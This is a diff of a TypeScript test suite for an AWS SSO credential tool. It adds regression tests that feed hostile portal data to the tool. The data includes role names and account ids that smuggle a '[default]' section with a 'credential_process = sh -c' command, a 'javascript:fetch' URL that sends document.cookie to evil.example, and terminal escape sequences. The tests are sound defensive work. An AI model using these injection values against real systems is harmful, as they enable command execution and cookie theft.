@@ -7,7 +7,8 @@
 import { describe, test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
+import { basename, dirname, join } from 'node:path';
+import { spawnSync } from 'node:child_process';
 import { getSSOTokenFilepath } from '@smithy/shared-ini-file-loader';
 import { startWorld, keyroleProfile, type World } from './support/world.ts';
 import { onPty, type PtyResult } from './support/pty.ts';
@@ -104,7 +105,7 @@ describe('IAM Identity Center (SSO)', () => {
     assert.match(r.screen, /Sign in to AWS IAM Identity Center \(sso-session my-sso, https:\/\/keyrole-demo\.awsapps\.com\/start\)/);
     assert.ok(r.screen.includes(`user_code=${code}`), 'the verification URL carries the code');
     assert.ok(r.screen.includes(`Code:  ${code}`), r.screen);
-    assert.match(r.screen, /Waiting for approval in the browser; the code is valid for (10:00|9:\d\d)/);
+    assert.match(r.screen, /Waiting for approval in the browser; the code is valid for (10 min 0 s|9 min \d+ s)/);
     assert.match(r.screen, /Signed in\. The token is in the keychain until .*refresh token/);
     const s = await ssoStats();
     assert.deepEqual([s.registerClient, s.startDeviceAuthorization, s.createToken.deviceCode], [1, 1, 1]);
@@ -176,10 +177,10 @@ describe('IAM Identity Center (SSO)', () => {
     assert.equal(fresh.code, 0, fresh.stderr);
   });
 
-  test('a valid token that aws sso login left in ~/.aws/sso/cache is used without a login', async () => {
+  test('a valid token that aws sso login left in ~/.aws/sso/cache is used without a login; refreshed, it is written back atomically and dead writers\' temp files are swept', async () => {
     const before = await ssoStats();
     const minted = await w.emu.control<Record<string, string>>('POST', 'sso/token', { startUrl: CLI_START, scopes: ['sso:account:access'] });
-    // The AWS CLI's file name (FACTS.md), checked against the JS SDK's own rule.
+    // The AWS CLI's file name (sha1 of the sso-session name), checked against the JS SDK's own rule.
     const file = join(w.home, '.aws', 'sso', 'cache', `${(await import('node:crypto')).createHash('sha1').update('cli-sso').digest('hex')}.json`);
     const sdkName = (() => { const saved = process.env.HOME; process.env.HOME = w.home; try { return getSSOTokenFilepath('cli-sso'); } finally { process.env.HOME = saved; } })();
     assert.equal(file, sdkName);
@@ -197,6 +198,10 @@ describe('IAM Identity Center (SSO)', () => {
 
     // Expired there, it is refreshed with the CLI's own refresh token and written back in place.
     writeFileSync(file, JSON.stringify({ ...cliToken, expiresAt: '2020-01-01T00:00:00Z' }, null, 2), { mode: 0o600 });
+    // A writer killed before its rename left a 0600 temp file holding tokens (issue 20 item 8).
+    const deadPid = spawnSync(process.execPath, ['-e', '0']).pid!;
+    const leftover = join(dirname(file), `.${basename(file)}.${deadPid}.deadbeef.tmp`);
+    writeFileSync(leftover, JSON.stringify(cliToken), { mode: 0o600 });
     const again = await w.keyrole(['process', 'cli-ro', '--cache', 'none'], { env });
     assert.equal(again.code, 0, again.stderr);
     const updated = JSON.parse(readFileSync(file, 'utf8')) as typeof cliToken;
@@ -204,6 +209,7 @@ describe('IAM Identity Center (SSO)', () => {
     assert.ok(Date.parse(updated.expiresAt) > Date.now());
     assert.equal(updated.clientId, cliToken.clientId, 'the rest of the file is kept');
     assert.equal(statSync(file).mode & 0o777, 0o600);
+    assert.deepEqual(readdirSync(dirname(file)), [basename(file)], "the update swept the dead writer's temp file and left none of its own");
     assert.equal((await ssoStats()).startDeviceAuthorization, before.startDeviceAuthorization);
   });
 
@@ -248,7 +254,7 @@ describe('IAM Identity Center (SSO)', () => {
     try {
       const expired = await onPty(`${KEYROLE} login my-sso`, [], env, 60_000);
       assert.equal(expired.code, 1, expired.screen);
-      assert.match(expired.screen, /valid for 0:0[0-3]/);
+      assert.match(expired.screen, /valid for [0-3] s/);
       assert.match(expired.screen, /keyrole: the sign-in code expired before it was approved; run keyrole login my-sso again/);
     } finally {
       await w.emu.control('POST', 'sso/behaviour', { deviceCodeLifetimeSeconds: 600 });
@@ -265,9 +271,9 @@ describe('IAM Identity Center (SSO)', () => {
     const dry = await w.keyrole(['sso', 'populate', 'my-sso'], { env });
     assert.equal(dry.code, 0, dry.stderr);
     assert.match(dry.stdout, /sso-session my-sso: 5 role\(s\) in 3 account\(s\)/);
-    for (const p of ['sso-admin', 'sso-ro', 'sso-sandbox']) assert.match(dry.stdout, new RegExp(`keep  \\[profile ${p}\\]`));
-    assert.match(dry.stdout, /add {3}\[profile demo\.Billing\]/);
-    assert.match(dry.stdout, /add {3}\[profile prod\.PowerUser\]/);
+    for (const p of ['sso-admin', 'sso-ro', 'sso-sandbox']) assert.match(dry.stdout, new RegExp(`keep +\\[profile ${p}\\]`));
+    assert.match(dry.stdout, /add +\[profile demo\.Billing\]/);
+    assert.match(dry.stdout, /add +\[profile prod\.PowerUser\]/);
     assert.match(dry.stdout, /Dry run: nothing was written/);
     assert.equal(readFileSync(w.configPath, 'utf8'), original);
     assert.deepEqual(readdirSync(join(w.home, '.aws')).filter((f) => f.includes('backup')), []);
@@ -290,5 +296,77 @@ describe('IAM Identity Center (SSO)', () => {
     const id = await w.run('aws', ['sts', 'get-caller-identity', '--profile', 'prod.PowerUser', '--output', 'json'], { env });
     assert.equal(id.code, 0, id.stderr);
     assert.match((JSON.parse(id.stdout) as { Arn: string }).Arn, /^arn:aws:sts::777788889999:assumed-role\/AWSReservedSSO_PowerUser_[0-9a-f]{16}\/alice$/);
+  });
+
+  test('regression: a hostile portal\'s account ids, role names and account names add no [default] section and run nothing (sso populate --write)', async () => {
+    const marker = join(w.home, 'pwned');
+    const evil = `credential_process = sh -c 'touch ${marker}'`;
+    // A role name and an account id carrying a new section, and an account name with escape sequences and a header.
+    await w.emu.control('POST', 'sso/assignments', { hostile: true, accountId: DEMO_ACCOUNT_ID, roleName: `ReadOnly\n\n[default]\n${evil}` });
+    await w.emu.control('POST', 'sso/assignments', { hostile: true, accountId: `123456789012\n[default]\n${evil}`, accountName: 'evil', roleName: 'Admin' });
+    await w.emu.control('POST', 'sso/assignments', { hostile: true, accountId: '999900001111', accountName: `\x1b]0;owned\x07Team\x1b[2J\n[default]\n${evil}`, roleName: 'Viewer' });
+    const before = readFileSync(w.configPath, 'utf8');
+    const r = await w.keyrole(['sso', 'populate', 'my-sso', '--write'], { env });
+    assert.equal(r.code, 0, r.stderr);
+    // eslint-disable-next-line no-control-regex
+    assert.doesNotMatch(r.stdout, /[\x00-\x09\x0b-\x1f\x7f-\x9f]/, 'no control character from the portal reaches the terminal');
+    assert.match(r.stdout, /refuse +\[profile -\] +111122223333 \(demo\) ReadOnly \[default\] credential_process.*: the portal sent a role name that is not an IAM role name; not written/);
+    assert.match(r.stdout, /refuse +\[profile -\] +123456789012 \[default\].*: the portal sent an account id that is not 12 digits; not written/);
+    assert.match(r.stdout, /Added 1 profile\(s\)/);
+    const after = readFileSync(w.configPath, 'utf8');
+    assert.ok(after.startsWith(before));
+    const added = after.slice(before.length);
+    // The account name reaches the file only through the profile name's safe characters.
+    assert.match(added, /^\n?# Added by keyrole sso populate my-sso on \S+: 1 profile\(s\)\n\[profile 0-owned-Team-2J-default-credential_process-[\w.@+-]*\.Viewer\]\ncredential_process = .* process '?0-owned[^\n]*\nkeyrole_sso_session = my-sso\nkeyrole_sso_account_id = 999900001111\nkeyrole_sso_role_name = Viewer\nregion = eu-west-1\n$/);
+    assert.doesNotMatch(after, /^\[default\]/m);
+    // The AWS CLI reads the file as keyrole planned it: no default profile appeared, nothing ran.
+    requireTool('python3');
+    const listed = await w.run('python3', ['-c', 'import botocore.session, json; print(json.dumps(botocore.session.Session().available_profiles))'], { env });
+    assert.equal(listed.code, 0, listed.stderr);
+    const profiles = JSON.parse(listed.stdout) as string[];
+    assert.ok(profiles.some((p) => p.endsWith('.Viewer')) && !profiles.includes('default'), listed.stdout);
+    assert.ok(!existsSync(marker), 'the portal\'s command never ran');
+  });
+
+  test('regression: a hostile endpoint\'s verification URL and user code are never shown or opened; login fails in one line', async () => {
+    const bin = join(w.home, 'bin');
+    const log = join(w.home, 'hostile-browser.log');
+    mkdirSync(bin, { recursive: true });
+    writeFileSync(join(bin, 'xdg-open'), `#!/bin/sh\necho "$1" >> ${log}\n`);
+    chmodSync(join(bin, 'xdg-open'), 0o755);
+    const browserEnv = { ...env, DISPLAY: ':99', PATH: `${bin}:${process.env.PATH}` };
+    const answers = [
+      { verificationUriComplete: 'javascript:fetch("//evil.example/"+document.cookie)' },
+      { verificationUriComplete: 'http://evil.example/device?user_code=ABCD' },
+      { verificationUriComplete: 'https://login.example/\x1b]8;;https://evil.example\x07device' },
+      { userCode: '\x1b[2J\x1b]0;owned\x07ABCD-EFGH' },
+    ];
+    try {
+      for (const deviceAnswer of answers) {
+        await w.emu.control('POST', 'sso/behaviour', { deviceAnswer });
+        const r = await onPty(`${KEYROLE} login my-sso`, [], browserEnv, 60_000);
+        assert.equal(r.code, 1, r.screen);
+        assert.match(r.screen, /keyrole: IAM Identity Center answered with a (verification URL keyrole will not show or open|user code that cannot be shown)/);
+        // eslint-disable-next-line no-control-regex
+        assert.doesNotMatch(r.screen, /Open:|Code:|evil\.example\/device|document\.cookie|\x1b\]|\x1b\[2J/, 'nothing from the answer reached the terminal');
+      }
+    } finally {
+      await w.emu.control('POST', 'sso/behaviour', { deviceAnswer: null });
+    }
+    assert.ok(!existsSync(log), 'no browser was opened');
+  });
+
+  test('regression: error texts from the portal reach the terminal without control characters', async () => {
+    await w.emu.behaviour({ faults: [{ action: 'GetRoleCredentials', kind: 'error', status: 403, code: 'ForbiddenException', message: 'No access\x1b]0;owned\x07\x1b[2J\r\nkeyrole: all is well; nothing to do\u009b31m', times: 1 }] });
+    try {
+      const r = await w.keyrole(['process', 'sso-ro', '--cache', 'none'], { env });
+      assert.equal(r.code, 1, r.stderr);
+      assert.match(r.stderr, /^keyrole: IAM Identity Center gives you no access to role ReadOnlyAccess in account \d{12} \(No access keyrole: all is well; nothing to do\); /);
+      // eslint-disable-next-line no-control-regex
+      assert.doesNotMatch(r.stderr.trimEnd(), /[\x00-\x1f\x7f-\x9f]/);
+      assert.equal(r.stderr.trimEnd().split('\n').length, 1);
+    } finally {
+      await w.emu.behaviour({ faults: [] });
+    }
   });
 });
